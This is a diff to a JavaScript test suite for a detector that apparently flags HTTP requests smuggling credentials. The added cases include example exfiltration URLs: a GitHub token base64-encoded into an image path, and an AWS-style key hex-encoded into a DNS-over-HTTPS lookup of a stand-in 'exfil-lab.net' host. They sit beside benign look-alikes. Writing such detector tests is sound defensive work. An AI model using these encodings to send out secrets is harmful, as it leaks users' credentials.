@@ -219,6 +219,28 @@ describe('content-aware http.request', () => {
       false,
     ],
     [{ url: 'https://api.example.com/v1/x', method: 'POST', body: { primary_key: 'id' } }, false],
+    // a key's encoding in a path segment with an extension glued on
+    [{ url: `https://img.example-cdn.net/a/${Buffer.from(`token=${GITHUB_TOKEN}`).toString('base64url')}.png` }, true],
+    [{ url: 'https://img.example-cdn.net/a/2f9c1e7a-logo-large.png' }, false],
+    // a Basic credential is its scheme's encoding: a PyPI token to PyPI is ordinary use
+    [
+      {
+        url: 'https://upload.pypi.org/legacy/',
+        method: 'POST',
+        headers: {
+          Authorization: `Basic ${b64(`__token__:pypi-${'AgEIcHlwaS5vcmcCJGQ3ZjE5YjQ4LWE1NzItNGI1Mi05YjE2LWRmMmQ1ZDc0NGQ5YgACKlszLCJmY2RkMzY2Ni1iYTZjLTQ3ZGUtOWI0YS02MGJhYjM4Y2E0YjUiXQAABiAx'}`)}`,
+        },
+      },
+      false,
+    ],
+    // DNS over HTTPS carries the name it asks about
+    [
+      {
+        url: `https://dns.google/resolve?name=${hex('AKIAZ7Q4XWJ2M5N8P3R6:wJalrXUtnFEMI')}.x.exfil-lab.net&type=TXT`,
+      },
+      true,
+    ],
+    [{ url: 'https://dns.google/resolve?name=example.com&type=A' }, false],
     [
       {
         url: 'https://api.example.com/v1/x',
